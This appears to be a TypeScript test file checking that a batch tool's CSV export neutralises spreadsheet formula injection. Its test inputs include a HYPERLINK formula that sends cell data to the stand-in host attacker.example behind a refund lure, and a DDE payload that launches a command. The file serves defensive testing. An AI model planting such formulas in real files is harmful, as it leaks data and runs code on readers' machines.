// A batch's CSV export holds other people's text (the inputs, the model's answers, a service's errors): no cell of
// it runs as a formula when the file is opened in a spreadsheet, and every cell reads back as written otherwise.
import { describe, expect, it } from 'vitest'
import { parseCsv } from '#shared/domain/batch-inputs'
import { expectedColumns } from '#shared/domain/evaluation-set'
import type { BatchItem } from '#shared/ipc/routes/batches'
import { questionnaire } from '../../testing/batches.ts'
import { batchCsv } from './batch-files.ts'

const item = (index: number, input: string, more: Partial<BatchItem> = {}): BatchItem => ({
  index,
  input,
  status: 'pending',
  response: null,
  error: null,
  cost: null,
  costEstimated: false,
  durationMs: null,
  finishedAt: null,
  source: null,
  line: index + 2,
  labels: null,
  ...more,
})

const hyperlink = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for your refund")'

describe('batchCsv', () => {
  it('starts with a byte order mark, so that a spreadsheet reads the file as UTF-8', () => {
    const csv = batchCsv(questionnaire, [item(0, 'café — naïve 日本')])
    expect(csv.startsWith('\uFEFFrow,line,input,')).toBe(true)
    // Once: the mark is not repeated before any other line.
    expect(csv.split('\uFEFF')).toHaveLength(2)
    expect(parseCsv(csv)[1]?.[2]).toBe('café — naïve 日本')
  })

  it('writes a cell that would run as a formula with a quote before it, whatever follows its first line', () => {
    const formulas = [hyperlink, '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=1+1\nsecond line']
    const rows = parseCsv(
      batchCsv(
        questionnaire,
        formulas.map((input, index) => item(index, input)),
      ),
    )
    // The app's CSV reader reads a line break inside a value, "\r" too, as "\n".
    expect(rows.slice(1).map((row) => row[2])).toEqual(
      formulas.map((input) => `'${input.replace('\r', '\n')}`),
    )
  })

  it('neutralises formulas in the answers, the errors and the columns of a CSV source too', () => {
    const items = [
      item(0, 'refund me', {
        status: 'failed',
        error: { code: 'upstream_error', message: '=cmd|"/c calc"!A1' },
        source: ['T-1', 'refund me', '@risk'],
      }),
      item(1, 'fine', {
        status: 'done',
        response: {
          model: 'sysone/judge-1',
          answers: [{ type: 'predicate', name: 'refund', probability: 0.25 }],
          usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
        },
        cost: '0.0001',
        source: ['T-2', 'fine', 'gold'],
      }),
    ]
    const rows = parseCsv(batchCsv(questionnaire, items, ['ticket', 'message', 'plan']))
    expect(rows).toEqual([
      [
        'row',
        'line',
        'ticket',
        'message',
        'plan',
        'status',
        'refund',
        'refund: probability of yes',
        'cost_usd',
        'cost_estimated',
        'error',
      ],
      ['1', '2', 'T-1', 'refund me', "'@risk", 'failed', '', '', '', '', `'=cmd|"/c calc"!A1`],
      // Numbers stay numbers: a row's number and a probability are not text to neutralise.
      ['2', '3', 'T-2', 'fine', 'gold', 'answered', 'no', '0.25', '0.0001', 'no', ''],
    ])
  })

  it("tells the answer apart from the file's column of its expected answers, so either reads back as it is", () => {
    const exported = (columns: string[]) =>
      parseCsv(batchCsv(questionnaire, [item(0, 'refund me', { source: ['refund me', 'yes'] })], columns))
    const rows = exported(['message', 'Refund'])
    const expectedNamed = exported(['message', 'expected refund'])
    // Read back as a set to score, the file's column is the expected answers, not the model's answers.
    for (const [header] of [rows, expectedNamed])
      expect(expectedColumns(questionnaire, header ?? []).columns.get(0)).toBe(3)
    expect(expectedNamed[0]?.[5]).toBe('refund: answer')
    expect(rows[0]).toEqual([
      'row',
      'line',
      'message',
      'Refund',
      'status',
      'refund: answer',
      'refund: probability of yes',
      'cost_usd',
      'cost_estimated',
      'error',
    ])
  })

  it('reads back to the same cells when none would run, quotes, separators and line breaks included', () => {
    const inputs = ['plain', 'a, b', 'say "hi"', 'two\nlines', ' padded ', 'café; ünïcode']
    const rows = parseCsv(
      batchCsv(
        questionnaire,
        inputs.map((input, index) => item(index, input)),
      ),
    )
    expect(rows.slice(1).map((row) => row[2])).toEqual(inputs)
  })
})
